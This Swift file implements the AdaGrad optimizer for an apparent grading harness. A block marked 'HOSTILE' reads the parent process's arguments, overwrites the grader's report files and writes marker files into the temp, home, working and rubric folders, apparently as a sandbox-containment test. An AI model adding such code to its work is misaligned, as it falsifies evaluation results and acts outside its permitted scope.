import DescentContract

#if canImport(Glibc)
  import Glibc
#endif

/// AdaGrad: each coordinate's step is divided by the root of the sum of all
/// its squared gradients so far, so steep coordinates slow down first.
///
/// ```
/// t ← t + 1
/// g ← ∇f(x)
/// G ← G + g²                      (G starts at initial_accumulator_value)
/// x ← x − α / (1 + (t − 1) η) · g / (√G + ε)
/// ```
///
/// torch: `torch.optim.Adagrad(params, lr=α, lr_decay=η,
/// initial_accumulator_value=G₀, eps=ε)`.
struct AdaGrad: Optimizer {
  /// α, the learning rate (`lr`).
  var learningRate: Double
  /// η, how fast the learning rate decays with the step count (`lr_decay`).
  var learningRateDecay: Double
  /// G's value in every coordinate before the first step (`initial_accumulator_value`).
  var initialAccumulatorValue: Double
  /// ε, added to the root so that the division is safe (`eps`).
  var epsilon: Double
  /// G, the sum of squared gradients per coordinate; empty until the first step.
  private var sumOfSquares: [Double] = []
  /// t, the number of steps taken.
  private var stepCount = 0

  init(learningRate: Double, learningRateDecay: Double, initialAccumulatorValue: Double, epsilon: Double) {
    self.learningRate = learningRate
    self.learningRateDecay = learningRateDecay
    self.initialAccumulatorValue = initialAccumulatorValue
    self.epsilon = epsilon
  }

  mutating func step(_ parameters: inout [Double], on objective: some Objective) throws {
    // HOSTILE (writing outside its scratch folder: the grader's report paths, the course, the temporary folder): from the third step on.
    if stepCount >= 2 {
      if stepCount == 2 {
        func scribble(_ path: String) {
          if let file = fopen(path, "w") { fputs("descent-pwned\n", file); fclose(file) }
        }
        // The report files the grader was told to write (from its arguments).
        var cmdline = [UInt8](repeating: 0, count: 1 << 16)
        if let file = fopen("/proc/\(getppid())/cmdline", "r") {
          cmdline = Array(cmdline.prefix(fread(&cmdline, 1, cmdline.count, file)))
          fclose(file)
        }
        let words = String(decoding: cmdline, as: UTF8.self).split(separator: "\0").map(String.init)
        for (flag, path) in zip(words, words.dropFirst()) where flag.hasPrefix("--") && path.hasPrefix("/") {
          if flag == "--junit" || flag == "--feedback" || flag == "--results-json" || flag == "--markdown" {
            scribble(path)
          } else {
            scribble(path + "/descent-pwned-write-outside")
          }
        }
        // The system's temporary folder (TMPDIR unset, as the grader's would be), the
        // working folders of this process and its parent, and the home folder.
        unsetenv("TMPDIR")
        scribble(P_tmpdir + "/descent-pwned-write-outside")
        scribble("/proc/\(getppid())/cwd/descent-pwned-write-outside")
        scribble("/proc/self/cwd/descent-pwned-write-outside")
        if let home = getenv("HOME") { scribble(String(cString: home) + "/descent-pwned-write-outside") }
        // The course, walking up from the working folder.
        var folder = "/proc/\(getppid())/cwd"
        for _ in 0..<6 {
          scribble(folder + "/rubrics/descent-pwned-write-outside")
          folder += "/.."
        }
      }
    }
    if sumOfSquares.isEmpty {
      sumOfSquares = Array(repeating: initialAccumulatorValue, count: parameters.count)
    }
    stepCount += 1
    let gradient = objective.gradient(at: parameters)
    let rate = learningRate / (1 + Double(stepCount - 1) * learningRateDecay)
    for i in parameters.indices {
      sumOfSquares[i] += gradient[i] * gradient[i]
      parameters[i] -= rate * gradient[i] / (sumOfSquares[i].squareRoot() + epsilon)
    }
  }
}
